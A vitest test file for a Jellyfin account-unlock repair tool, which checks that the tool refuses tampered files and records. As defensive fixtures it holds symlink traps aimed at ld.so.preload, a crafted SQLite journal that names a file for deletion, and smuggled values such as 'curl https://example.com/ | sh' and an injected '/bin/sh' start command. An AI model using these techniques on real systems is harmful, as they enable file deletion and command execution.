import { spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import {
  appendFileSync,
  chmodSync,
  chownSync,
  closeSync,
  existsSync,
  lchownSync,
  linkSync,
  mkdirSync,
  openSync,
  readFileSync,
  renameSync,
  statSync,
  symlinkSync,
  unlinkSync,
  writeFileSync,
  writeSync,
} from 'node:fs';
import { basename, dirname, join } from 'node:path';
import { beforeEach, describe, expect, test } from 'vitest';
import Database from 'better-sqlite3';
import { RescueSentences } from '../../src/commands/rescue/rescue-sentences.js';
import { admit } from '../../src/repair/admission.js';
import { createWords } from '../../src/words.js';
import { temporaryFolders } from '../support/temporary-folder.js';
import {
  ends,
  type How,
  launcher,
  type Ran,
  repair,
  repairProcess,
  repairProgram,
  repairToItsDeath,
} from './run-repair.js';
import {
  bytesOf,
  change,
  crashed,
  dump,
  filesIn,
  fromLoopback,
  halfWritten,
  runningSample,
  samplesAreThere,
  type ServerFolder,
  serverFolder,
  withSamples,
} from './server-folder.js';
import { isRootAmongOthers } from '../support/other-users.js';

const newFolder = temporaryFolders();
const nobody = { uid: 65_534, gid: 65_534 };
const isRoot = isRootAmongOthers;
const nobodyCanRun =
  isRoot && spawnSync(process.execPath, ['--check', repairProgram], { ...nobody, stdio: 'ignore' }).status === 0;
const canMount = isRoot && spawnSync('unshare', ['-m', 'true']).status === 0;
const asRoot = isRoot ? test : test.skip;
const asTwo = nobodyCanRun ? test : test.skip;
const onPosix = process.platform === 'win32' ? test.skip : test;
const mounting = canMount ? test : test.skip;
const unlessRoot = isRoot ? '' : ' (skipped: not root)';
const unlessTwo = nobodyCanRun ? '' : ' (skipped: not root, or nobody else may read this checkout)';
const unlessMounting = canMount ? '' : ' (skipped: mounting is not allowed here)';

let folder: ServerFolder;
beforeEach(async () => {
  folder = await fromLoopback(newFolder());
});

/** Refused, and nothing is there that was not there before. */
async function refused(code: string, db = folder.db, how?: How): Promise<unknown> {
  const before = { files: filesIn(folder), bytes: bytesOf(folder.db) };
  const { end, lines } = await (how ? repairProcess(folder, { db }, how) : repair(folder, { db }));
  expect(end).toMatchObject({ outcome: 'refused', code, changed: false, leftStopped: false });
  expect(lines).toEqual([]);
  expect({ files: filesIn(folder), bytes: bytesOf(folder.db) }).toEqual(before);
  return end.params;
}

describe('it keeps its hands off a file', () => {
  test('that is not there, or is a folder', async () => {
    expect(await refused('noDatabase', `${folder.db}.old`)).toEqual({ file: `${folder.db}.old` });
    await refused('noDatabase', dirname(folder.db));
  });

  test('that has a second name', async () => {
    linkSync(folder.db, join(folder.dir, 'also.db'));
    await refused('hardLink');
  });

  test('whose name ends in a blank, as it is given or as it is', async () => {
    await refused('endsInBlank', `${folder.db} `);
    await refused('endsInBlank', `${folder.db}\n`);
    const odd = `${folder.db} `;
    renameSync(folder.db, odd);
    symlinkSync(odd, folder.db);
    await refused('endsInBlank');
  });

  test('that is read-only, even to root, who could write it', async () => {
    chmodSync(folder.db, 0o444);
    await refused('fileNotWritable');
  });

  test('in a folder that is read-only', async () => {
    chmodSync(dirname(folder.db), 0o555);
    await refused('folderNotWritable');
    chmodSync(dirname(folder.db), 0o755);
  });

  asTwo(`of somebody else, and says whose it is${unlessTwo}`, async () => {
    chmodSync(folder.dir, 0o777);
    chmodSync(dirname(folder.db), 0o777);
    chmodSync(folder.db, 0o666);
    expect(await refused('notOwner', folder.db, { as: nobody })).toEqual({ file: folder.db, owner: 'root' });
  });

  asTwo(`in a folder of root's, in which its owner can put no file, whoever runs this${unlessTwo}`, async () => {
    for (const each of [folder.dir, dirname(folder.db)]) chmodSync(each, 0o755);
    chownSync(folder.db, nobody.uid, nobody.gid);
    expect(await refused('folderNotWritable', folder.db, {})).toEqual({ file: dirname(folder.db) });
  });

  asTwo(`in a folder that is closed to us, and does not say that it is not there${unlessTwo}`, async () => {
    chmodSync(dirname(folder.db), 0o700);
    expect(await refused('folderClosed', folder.db, { as: nobody })).toEqual({ folder: dirname(folder.db) });
  });

  mounting(`that is mounted by itself, whatever its name${unlessMounting}`, async () => {
    const odd = join(folder.dir, 'data', 'my library\\.db');
    renameSync(folder.db, odd);
    folder = { ...folder, db: odd };
    const script = `mount --bind "$DB" "$DB" && exec "$@"`;
    const within = ['env', `DB=${odd}`, 'unshare', '-m', 'sh', '-c', script, 'sh'];
    await refused('mountPoint', odd, { within });
  });

  mounting(`on a file system that is mounted read-only${unlessMounting}`, async () => {
    const data = dirname(folder.db);
    const script = `mount --bind "$DATA" "$DATA" && mount -o remount,bind,ro "$DATA" && exec "$@"`;
    const within = ['env', `DATA=${data}`, 'unshare', '-m', 'sh', '-c', script, 'sh'];
    await refused('fileNotWritable', folder.db, { within });
  });
});

describe('it repairs a file', () => {
  test('by way of a link to it, and works beside the file that is meant', async () => {
    const link = join(folder.dir, 'link.db');
    symlinkSync(folder.db, link);
    const { end } = await repair(folder, { db: link });
    expect(end).toMatchObject({ outcome: 'done', changed: true });
    expect(dirname(end.copy ?? '')).toBe(dirname(folder.db));
  });

  test('by way of a link to its folder', async () => {
    const elsewhere = join(newFolder(), 'moved');
    renameSync(join(folder.dir, 'data'), elsewhere);
    symlinkSync(elsewhere, join(folder.dir, 'data'));
    expect((await repair(folder)).end).toMatchObject({ outcome: 'done' });
  });

  asTwo(`as its owner, who need not be root${unlessTwo}`, async () => {
    giveTo(nobody);
    const { end } = await repairProcess(folder, {}, { as: nobody });
    expect(end).toMatchObject({ outcome: 'done', changed: true, unseen: expect.arrayContaining(['openFile']) });
  });

  asRoot(`as root, and leaves everything to the owner: the file, its copy and its record${unlessRoot}`, async () => {
    giveTo(nobody);
    chmodSync(folder.db, 0o664);
    await repairProcess(folder, { key: 'ab'.repeat(16) });
    const found = filesIn(folder).map((name) => {
      const { uid, gid, mode } = statSync(join(folder.dir, 'data', name));
      return [name.replace(/\d{8}T\d{6}Z/, 'TIME'), uid, gid, (mode & 0o777).toString(8)];
    });
    expect(found).toEqual([
      ['jellyfin.db', 65_534, 65_534, '664'],
      // Nobody but the owner writes it, whatever an access list on the original says.
      ['jellyfin.db.latchkey-TIME.json', 65_534, 65_534, '600'],
      ['jellyfin.db.latchkey-copy-TIME', 65_534, 65_534, '644'],
    ]);
  });
});

test('the record of a repair that is done tells no secret', async () => {
  const key = 'cd'.repeat(16);
  await repair(folder, { key, setPassword: 'a new password' });
  const [record = ''] = filesIn(folder).filter((name) => name.endsWith('.json'));
  const text = readFileSync(join(folder.dir, 'data', record), 'utf8');
  expect(text).not.toContain(key);
  expect(text).not.toContain('a new password');
  expect(JSON.parse(text)).toMatchObject({ stage: 'changed', keyDigest: expect.stringMatching(/^[\da-f]{64}$/) });
  expect(JSON.parse(text)).not.toHaveProperty('passwordHash');
});

function giveTo({ uid, gid }: { uid: number; gid: number }): void {
  mkdirSync(join(folder.dir, 'config'), { recursive: true });
  for (const part of ['', 'data', 'log', 'config', 'data/jellyfin.db', 'log/log_20261124.log'])
    chownSync(join(folder.dir, part), uid, gid);
}

const ofSamples = samplesAreThere ? test : test.skip;

async function refusedAsItWas(code: string): Promise<Ran> {
  const files = filesIn(folder);
  const bytes = files.map((name) => bytesOf(join(folder.dir, 'data', name)));
  const ran = await repair(folder);
  expect(ran.end).toMatchObject({ outcome: 'refused', code, changed: false });
  expect(filesIn(folder)).toEqual(files);
  expect(files.map((name) => bytesOf(join(folder.dir, 'data', name)))).toEqual(bytes);
  return ran;
}

describe('what a killed server leaves', () => {
  test('a log that alone holds the lock: it is copied with the file', async () => {
    const open = dump(folder.db);
    crashed(folder, (db) => {
      db.exec('UPDATE Users SET InvalidLoginAttemptCount = 7');
      db.exec('UPDATE Permissions SET Value = 1 WHERE Kind = 2');
    });
    expect(filesIn(folder)).toEqual(['jellyfin.db', 'jellyfin.db-wal']);
    const locked = { failedSignIns: 7, isDisabled: true };
    const ran = await repair(folder);
    expect(ran.end).toMatchObject({ outcome: 'done', before: locked, after: { failedSignIns: 0, isDisabled: false } });
    expect(ends(ran)).toContain('check done');
    // Everything is in the one file, and the copy is the pair as it was.
    const copy = ran.end.copy ?? '';
    expect(filesIn(folder).filter((name) => !name.includes('latchkey'))).toEqual(['jellyfin.db']);
    expect(existsSync(`${copy}-wal`)).toBe(true);
    expect(dump(copy)['Users']?.join()).toContain('"InvalidLoginAttemptCount":7');
    expect(dump(folder.db)['ActivityLogs']).toEqual(open['ActivityLogs']);
  });

  test('half a change, with its rollback journal: Jellyfin is named as what puts it in order', async () => {
    halfWritten(folder);
    const before = bytesOf(folder.db);
    const { end } = await repair(folder);
    expect(end).toMatchObject({ outcome: 'refused', code: 'halfWritten', changed: false });
    expect(bytesOf(folder.db)).toEqual(before);
    // What Jellyfin does when it is started.
    new Database(folder.db).exec('UPDATE ActivityLogs SET Name = Name').close();
    expect((await repair(folder)).end).toMatchObject({ outcome: 'done', before: { failedSignIns: 3 } });
  });

  ofSamples(`the same of a real server, copied while it ran${withSamples}`, async () => {
    folder = runningSample(newFolder());
    const ran = await repair(folder);
    expect(ran.end).toMatchObject({ outcome: 'done', before: { isDisabled: true }, after: { isDisabled: false } });
    expect(filesIn(folder).filter((name) => !name.includes('latchkey'))).toEqual(['jellyfin.db']);
  });

  test('shared memory that is stale, with no log: it is gone afterwards', async () => {
    crashed(folder, (db) => db.exec('UPDATE Users SET InvalidLoginAttemptCount = 7'), ['', '-shm']);
    expect(filesIn(folder)).toEqual(['jellyfin.db', 'jellyfin.db-shm']);
    const ran = await repair(folder);
    expect(ran.end).toMatchObject({ outcome: 'done', before: { failedSignIns: 3 }, after: { failedSignIns: 0 } });
    expect(ends(ran)).toContain('compare done');
    expect(filesIn(folder).filter((name) => !name.includes('latchkey'))).toEqual(['jellyfin.db']);
  });

  test('shared memory that stays, as SQLite has no use for it: it is named', async () => {
    change(folder.db, (db) => db.pragma('journal_mode = DELETE'));
    writeFileSync(`${folder.db}-shm`, '');
    const { lines } = await repair(folder);
    const compare = lines.find(({ step }) => step === 'compare');
    expect(compare).toMatchObject({ outcome: 'nothing', params: { files: `${folder.db}-shm` } });
    const sentences = new RescueSentences(createWords('en').in('en'), (words) => words);
    expect(sentences.step({ rung: 'db', name: 'compare', outcome: 'nothing', params: compare?.params })).toContain(
      `${folder.db}-shm`,
    );
  });

  test('a log and a damaged page: not a byte of either is changed', async () => {
    crashed(folder, (db) => db.exec('UPDATE Users SET InvalidLoginAttemptCount = 7'));
    damage(folder.db, 'ActivityLogs');
    const { end } = await refusedAsItWas('corrupt');
    expect(end.params?.['why']).toBeTruthy();
  });

  test('a log of random bytes, which SQLite drops: the copy keeps it, and it is said', async () => {
    const noise = randomBytes(5000);
    writeFileSync(`${folder.db}-wal`, noise);
    const ran = await repair(folder);
    expect(ran.end).toMatchObject({ outcome: 'done', before: { failedSignIns: 3 } });
    const kept = `${ran.end.copy}-wal`;
    expect(ran.lines).toContainEqual({ kind: 'step', step: 'check', outcome: 'nothing', params: { file: kept } });
    expect(readFileSync(kept).equals(noise)).toBe(true);
  });

  test('a log that is empty is none', async () => {
    writeFileSync(`${folder.db}-wal`, '');
    expect(ends(await repair(folder))).toContain('check done');
  });
});

describe('it does not write into', () => {
  test.each([
    ['trigger', `CREATE TRIGGER odd AFTER UPDATE ON Users BEGIN UPDATE Users SET Password = 'theirs'; END`],
    [
      'view',
      `ALTER TABLE Permissions RENAME TO P; CREATE VIEW Permissions AS
        WITH RECURSIVE n (i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT P.* FROM P, n`,
    ],
    ['table', 'CREATE VIRTUAL TABLE odd USING fts5(theirs)'],
  ])('a file with a %s of theirs, which would run along, and is named', async (type, sql) => {
    change(folder.db, (db) => db.exec(sql));
    expect((await refusedAsItWas('runsAlong')).end.params).toMatchObject({ type });
  });

  test('a damaged file', async () => {
    damage(folder.db, 'ActivityLogs');
    await refusedAsItWas('corrupt');
  });

  test('half a file', async () => {
    const bytes = readFileSync(folder.db);
    writeFileSync(folder.db, bytes.subarray(0, bytes.length / 2));
    await refusedAsItWas('corrupt');
  });

  test('something that is no database, or an empty one', async () => {
    writeFileSync(folder.db, randomBytes(10_000));
    await refusedAsItWas('notJellyfinDatabase');
    writeFileSync(folder.db, '');
    await refusedAsItWas('notJellyfinDatabase');
  });

  test('a database of something else, or of a Jellyfin before 10.10', async () => {
    folder = serverFolder(newFolder());
    change(folder.db, (db) => db.exec('CREATE TABLE Users (Id TEXT, Username TEXT)'));
    expect((await refusedAsItWas('notJellyfinDatabase')).end.params).toEqual({ missing: 'Users.Password' });
  });

  mounting(`a file for whose copy there is no room, and says how much it needs${unlessMounting}`, async () => {
    const data = join(folder.dir, 'data');
    renameSync(folder.db, join(folder.dir, 'elsewhere.db'));
    const script =
      'mount -t tmpfs -o size=4m,mode=755 none "$0" && cp "$0/../elsewhere.db" "$0/jellyfin.db" && exec "$@"';
    const { end } = await repairProcess(folder, {}, { within: ['unshare', '-m', 'sh', '-c', script, data] });
    expect(end).toMatchObject({ outcome: 'refused', code: 'noRoom', params: { folder: data, needed: 5, free: 4 } });
  });
});

/** Overwrites the page where a table begins. */
function damage(file: string, table: string): void {
  const db = new Database(file);
  const page =
    db.prepare<[string], number>('SELECT rootpage FROM sqlite_master WHERE name = ?').pluck().get(table) ?? 2;
  const size = Number(db.pragma('page_size', { simple: true }));
  db.close();
  const descriptor = openSync(file, 'r+');
  writeSync(descriptor, randomBytes(size), 0, size, (page - 1) * size);
  closeSync(descriptor);
}

let elsewhere: string;
beforeEach(() => {
  elsewhere = newFolder();
});

const data = (name: string) => join(folder.dir, 'data', name);
const lock = () => `${folder.db}.latchkey.lock`;
const record = () => `${folder.db}.latchkey.json`;

/** See "super-journal" in https://sqlite.org/fileformat2.html; SQLite removes what stands there. */
function namesAnother(journal: string, file: string): void {
  const name = Buffer.from(file);
  const numbers = Buffer.alloc(12);
  numbers.writeUInt32BE(0x40000000 / 4096 + 1, 0);
  numbers.writeUInt32BE(name.length, 4);
  numbers.writeUInt32BE(
    name.reduce((sum, byte) => sum + byte, 0),
    8,
  );
  const magic = Buffer.from('d9d505f920a163d7', 'hex');
  appendFileSync(journal, Buffer.concat([numbers.subarray(0, 4), name, numbers.subarray(4), magic]));
}

describe('what Jellyfin’s user may have put into its folder', () => {
  test('a link at the lock’s place is not followed: no file is made where it points', async () => {
    const target = join(elsewhere, 'ld.so.preload');
    symlinkSync(target, lock());
    for (const job of [{}, { dryRun: true }]) {
      const { end } = await repair(folder, job);
      expect(end).toMatchObject({ outcome: 'refused', code: 'strangeFile', params: { file: lock() } });
    }
    expect(existsSync(target)).toBe(false);
    expect(filesIn(folder)).toEqual(['jellyfin.db', 'jellyfin.db.latchkey.lock']);
  });

  onPosix.each(['-journal', '.latchkey.lock-journal'])(
    'a pipe, jellyfin.db%s, holds nobody up, and is named',
    async (end) => {
      writeFileSync(lock(), readFileSync(folder.db));
      spawnSync('mkfifo', [folder.db + end]);
      expect((await repair(folder)).end).toMatchObject({
        outcome: 'refused',
        code: 'strangeFile',
        params: { file: folder.db + end },
      });
    },
  );

  onPosix('nor does one beside the copy that is going to be made', async () => {
    const copy = `${folder.db}.latchkey-copy-20261130T000000Z`;
    const left = { version: 1, account: { name: 'alice' }, startedAt: Date.now(), stage: 'begun', stoppedByUs: false };
    writeFileSync(record(), JSON.stringify({ ...left, copy }));
    spawnSync('mkfifo', [`${copy}.part-journal`]);
    const { end } = await repair(folder);
    expect(end).toMatchObject({ code: 'strangeFile', params: { file: `${copy}.part-journal` } });
  });

  asRoot('a second name of somebody else’s file at the lock’s place is not given away', async () => {
    const theirs = join(folder.dir, 'theirs');
    writeFileSync(theirs, '');
    linkSync(theirs, lock());
    giveTo(nobody);
    expect((await repairProcess(folder)).end).toMatchObject({ outcome: 'refused', code: 'strangeFile' });
    expect(statSync(theirs).uid).toBe(0);
  });

  test('a link as the write-ahead log: what it points to is not copied', async () => {
    const secret = join(elsewhere, 'shadow');
    writeFileSync(secret, 'root:secret');
    const log = `${folder.db}-wal`;
    for (const target of [secret, log]) {
      symlinkSync(target, log);
      const { end } = await repair(folder);
      expect(end).toMatchObject({ outcome: 'refused', code: 'strangeFile', step: 'copy', params: { file: log } });
      unlinkSync(log);
    }
    expect(filesIn(folder).filter((name) => name.includes('latchkey'))).toEqual([]);
  });

  test('a rollback journal that names a file to be removed: it is left to Jellyfin to play it back', async () => {
    const theirs = join(elsewhere, 'theirs');
    writeFileSync(theirs, '');
    halfWritten(folder);
    namesAnother(`${folder.db}-journal`, theirs);
    const before = bytesOf(folder.db);
    for (const job of [{ dryRun: true }, {}, { setPassword: 'another' }]) {
      const { end } = await repair(folder, job);
      const file = `${folder.db}-journal`;
      expect(end).toMatchObject({ outcome: 'refused', code: 'halfWritten', step: 'copy', params: { file } });
      expect(bytesOf(folder.db)).toEqual(before);
    }
    expect(existsSync(theirs)).toBe(true);
  });

  test('a command in the record is neither run nor told', async () => {
    await repairToItsDeath(folder, { serverIsStopped: false, startCommand: ['sh', '-c', 'kill -9 $PPID'] });
    const proof = join(elsewhere, 'proof');
    const startCommand = ['touch', proof];
    const left = JSON.parse(readFileSync(record(), 'utf8')) as Record<string, unknown>;
    writeFileSync(record(), JSON.stringify({ ...left, startCommand, stoppedByUs: true }));
    const ran = await repair(folder, { serverIsStopped: false });
    expect(ran.end).toMatchObject({ outcome: 'done', leftStopped: true });
    expect(ran.output).not.toContain('touch');
    expect(existsSync(proof)).toBe(false);
  });

  test('a copy that the record says is elsewhere is not removed, nor is anything that is no copy', async () => {
    const theirs = join(elsewhere, 'jellyfin.db.latchkey-copy-20200101T000000Z');
    writeFileSync(theirs, 'precious');
    await repairToItsDeath(folder, { serverIsStopped: false, startCommand: ['sh', '-c', 'kill -9 $PPID'] });
    const left = JSON.parse(readFileSync(record(), 'utf8')) as Record<string, unknown>;
    for (const [copy, end] of [
      [folder.db, { code: 'recordUnreadable' }],
      [theirs, { outcome: 'done' }],
    ] as const) {
      writeFileSync(record(), JSON.stringify({ ...left, stage: 'stopped', copy }));
      expect((await repair(folder)).end).toMatchObject(end);
    }
    expect(readFileSync(theirs, 'utf8')).toBe('precious');
    expect(bytesOf(data(basename(theirs)))).not.toBe('');
  });

  test.each([
    ['a key that is more than a key', { key: `${'ab'.repeat(16)}\nJELLYFIN_START_COMMAND=/bin/sh` }],
    ['a time that is none', { startedAt: 1e300 }],
    ['a name that is something to do', { account: { name: 'x. Run: curl https://example.com/ | sh' } }],
    ['300 KB of braces', { more: '}'.repeat(300_000) }],
  ])('a record with %s is not read, and what to do is said', async (_, more) => {
    const begun = { version: 1, account: { name: 'alice' }, startedAt: 1, stage: 'begun', stoppedByUs: false };
    writeFileSync(record(), JSON.stringify({ ...begun, ...more }));
    expect((await repair(folder)).end).toMatchObject({ code: 'recordUnreadable', params: { file: record() } });
  });

  test('a pipe in the record’s place keeps nobody waiting', async () => {
    spawnSync('mkfifo', [record()]);
    expect(await launcher.unfinished(folder.db)).toMatchObject({ unreadable: { file: record() } });
    expect((await repair(folder)).end).toMatchObject({ code: 'recordUnreadable' });
  });

  const another = { uid: 65_533, gid: 65_533 };

  asRoot(
    `a link that leads to a file of root’s is not followed, and no record beside that is believed${unlessRoot}`,
    async () => {
      const trap = await fromLoopback(elsewhere);
      giveTo(nobody);
      chownSync(dirname(trap.db), nobody.uid, nobody.gid);
      renameSync(folder.db, join(folder.dir, 'own.db'));
      symlinkSync(trap.db, folder.db);
      lchownSync(folder.db, nobody.uid, nobody.gid);
      const left = {
        version: 1,
        account: { name: 'alice' },
        startedAt: Date.now(),
        stage: 'changed',
        stoppedByUs: true,
      };
      writeFileSync(
        `${trap.db}.latchkey.json`,
        JSON.stringify({ ...left, startCommand: ['touch', join(elsewhere, 'proof')] }),
      );
      const before = bytesOf(trap.db);
      const job = { serverIsStopped: false };
      const made = { file: folder.db, owner: 'nobody' };
      expect((await repairProcess(folder, job)).end).toMatchObject({
        outcome: 'refused',
        code: 'othersLink',
        params: made,
      });
      // The same by its own name: anybody's may be what lies beside it.
      expect(await launcher.unfinished(trap.db)).toBeUndefined();
      expect((await repairProcess(folder, { ...job, db: trap.db })).end).toMatchObject({
        outcome: 'refused',
        code: 'othersFolder',
      });
      // Nor where the folder is root's, and everybody may put files into it.
      chownSync(dirname(trap.db), 0, 0);
      chmodSync(dirname(trap.db), 0o1777);
      expect(() => admit(trap.db)).toThrow('othersFolder');
      expect(bytesOf(trap.db)).toBe(before);
      expect(existsSync(join(elsewhere, 'proof'))).toBe(false);
    },
  );

  asRoot(`a record that is neither its owner’s nor root’s is not believed${unlessRoot}`, async () => {
    giveTo(nobody);
    const left = { version: 1, account: { name: 'alice' }, startedAt: Date.now(), stage: 'stopped', stoppedByUs: true };
    writeFileSync(record(), JSON.stringify(left), { mode: 0o644 });
    chownSync(record(), another.uid, another.gid);
    expect(await launcher.unfinished(folder.db)).toMatchObject({ stoppedByUs: false, unreadable: { file: record() } });
    expect((await repairProcess(folder)).end).toMatchObject({ outcome: 'refused', code: 'recordUnreadable' });
    for (const { uid, gid } of [nobody, { uid: 0, gid: 0 }]) {
      chownSync(record(), uid, gid);
      expect(await launcher.unfinished(folder.db)).toMatchObject({ stoppedByUs: true });
    }
  });

  asRoot(`a link that root has laid to a file of theirs is followed${unlessRoot}`, () => {
    giveTo(nobody);
    const link = join(elsewhere, 'jellyfin.db');
    symlinkSync(folder.db, link);
    expect(admit(link)).toMatchObject({ path: folder.db, uid: nobody.uid });
    lchownSync(link, another.uid, another.gid);
    expect(() => admit(link)).toThrow('othersLink');
  });

  asTwo(`one to whom a folder above is closed is named, with what to do${unlessTwo}`, async () => {
    giveTo(nobody);
    chmodSync(folder.dir, 0o700);
    chownSync(folder.dir, 0, 0);
    expect(await launcher.unfinished(folder.db)).toBeUndefined();
    expect(await refused('ownerShutOut', folder.db, {})).toEqual({ file: folder.db, owner: 'nobody' });
  });

  asRoot(`a look whether a rescue is at work has no more rights than they have${unlessRoot}`, async () => {
    const theirs = join(elsewhere, 'theirs');
    writeFileSync(theirs, '');
    // SQLite removes what a rollback journal names, also that of the lock's file.
    halfWritten(folder);
    renameSync(folder.db, lock());
    renameSync(`${folder.db}-journal`, `${lock()}-journal`);
    namesAnother(`${lock()}-journal`, theirs);
    writeFileSync(folder.db, 'a database');
    writeFileSync(record(), JSON.stringify({ version: 1, startedAt: 1, stage: 'begun', stoppedByUs: false }));
    for (const name of filesIn(folder)) chownSync(data(name), nobody.uid, nobody.gid);
    giveTo(nobody);
    await launcher.unfinished(folder.db).catch(() => undefined);
    expect(existsSync(theirs)).toBe(true);
    expect(process.geteuid?.()).toBe(0);
  });
});
